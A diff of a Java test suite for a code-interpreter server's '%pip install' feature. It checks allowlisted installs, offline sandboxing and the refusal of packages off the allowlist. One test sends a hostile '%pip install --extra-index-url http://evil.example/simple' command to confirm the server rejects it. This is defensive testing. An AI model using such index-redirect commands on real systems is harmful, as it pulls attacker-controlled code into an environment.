@@ -2,15 +2,12 @@ package dev.codeinterp.server;
 
 import dev.codeinterp.model.json.Json;
 import dev.codeinterp.model.json.JsonObject;
-import dev.codeinterp.server.packages.LocalPackageIndex;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 
 import java.io.IOException;
-import java.nio.file.Files;
-import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
 
@@ -23,36 +20,22 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 abstract class PipMagicContract {
-    private static final String OFFLINE_PROBE = """
-            import socket
-            for host, port in (('1.1.1.1', 80), ('127.0.0.1', %d)):
-                try:
-                    socket.create_connection((host, port), timeout=3).close()
-                    print('CONNECTED', host)
-                except OSError as e:
-                    print('offline', type(e).__name__)
-            """;
-
+    PackageIndexApp packages;
     TestApp app;
-    LocalPackageIndex index;
-    Path allowlist;
 
     abstract String runtime();
 
     @BeforeAll
-    void start() throws IOException {
-        index = new LocalPackageIndex();
-        index.publish("codeinterp-pipdemo", "1.0", "codeinterp_pipdemo", "VALUE = 'installed by %pip'\n", List.of());
-        allowlist = Files.createTempFile("allowlist", ".txt");
-        Files.writeString(allowlist, "python codeinterp-pipdemo\npython codeinterp-unpublished\npython numpy preinstalled\n");
-        app = TestApp.start(runtime(), Map.of("PACKAGES_ALLOWLIST", allowlist.toString(), "PYTHON_INDEX_URL", index.url()));
+    void start() {
+        packages = PackageIndexApp.start(runtime(),
+                index -> index.publish("codeinterp-pipdemo", "1.0", "codeinterp_pipdemo", "VALUE = 'installed by %pip'\n", List.of()),
+                "python codeinterp-pipdemo", "python codeinterp-unpublished", "python numpy preinstalled");
+        app = packages.app;
     }
 
     @AfterAll
     void stop() throws IOException {
-        app.close();
-        index.close();
-        Files.deleteIfExists(allowlist);
+        packages.close();
     }
 
     private JsonObject run(TestApp.SessionRef s, String code, double timeout) {
@@ -62,21 +45,16 @@ abstract class PipMagicContract {
         return r.json();
     }
 
-    private int indexPort() {
-        return Integer.parseInt(index.url().replaceAll(".*:(\\d+)/.*", "$1"));
-    }
-
     @Test
     void pip_install_in_a_cell_installs_from_the_allowlisted_index_and_imports_at_once_while_offline() {
         TestApp.SessionRef s = app.createSession();
         // a 3 s timeout, a sleep of 2.5 s: the cold fetch (pip on the host, over 0.5 s) comes on top and must not count
         JsonObject r = run(s, "import time\n%pip install codeinterp-pipdemo\nimport codeinterp_pipdemo\n"
-                + "print(codeinterp_pipdemo.VALUE)\ntime.sleep(2.5)\n" + OFFLINE_PROBE.formatted(indexPort()), 3.0);
+                + "print(codeinterp_pipdemo.VALUE)\ntime.sleep(2.5)\n" + packages.networkProbe(), 3.0);
         assertThat(r.string("status")).as(r.asMap().toString()).isEqualTo("ok");
         assertThat(r.string("stdout")).startsWith("Installed codeinterp-pipdemo-1.0\ninstalled by %pip\n")
                 .doesNotContain("CONNECTED").contains("offline");
-        List<JsonObject> installs = app.get("/api/v1/sessions/" + s.id() + "/events", s.token()).json().objectList("events").stream()
-                .filter(e -> e.string("type").equals("install")).toList();
+        List<JsonObject> installs = packages.installEvents(s);
         assertThat(installs).hasSize(1);
         assertThat(installs.get(0).stringList("packages")).containsExactly("codeinterp-pipdemo");
         assertThat(installs.get(0).integer("duration_ms")).as("the fetch took long enough to have mattered").isGreaterThan(500);
@@ -90,7 +68,7 @@ abstract class PipMagicContract {
     @Test
     void a_package_off_the_allowlist_is_refused_in_the_cell_by_name_and_the_cell_may_go_on() {
         TestApp.SessionRef s = app.createSession();
-        int before = index.requests();
+        int before = packages.index.requests();
         JsonObject caught = run(s, "try:\n    %pip install requests\nexcept Exception as e:\n    print(type(e).__name__, e)\nprint('went on')", 5.0);
         assertThat(caught.string("status")).isEqualTo("ok");
         assertThat(caught.string("stdout")).isEqualTo("PackageRefused python package 'requests' is not on this server's package "
@@ -103,7 +81,7 @@ abstract class PipMagicContract {
 
         JsonObject hostile = run(s, "%pip install --extra-index-url http://evil.example/simple codeinterp-pipdemo", 5.0);
         assertThat(hostile.object("error").string("value")).contains("'--extra-index-url'");
-        assertThat(index.requests()).as("nothing refused was fetched").isEqualTo(before);
+        assertThat(packages.index.requests()).as("nothing refused was fetched").isEqualTo(before);
     }
 
     @Test
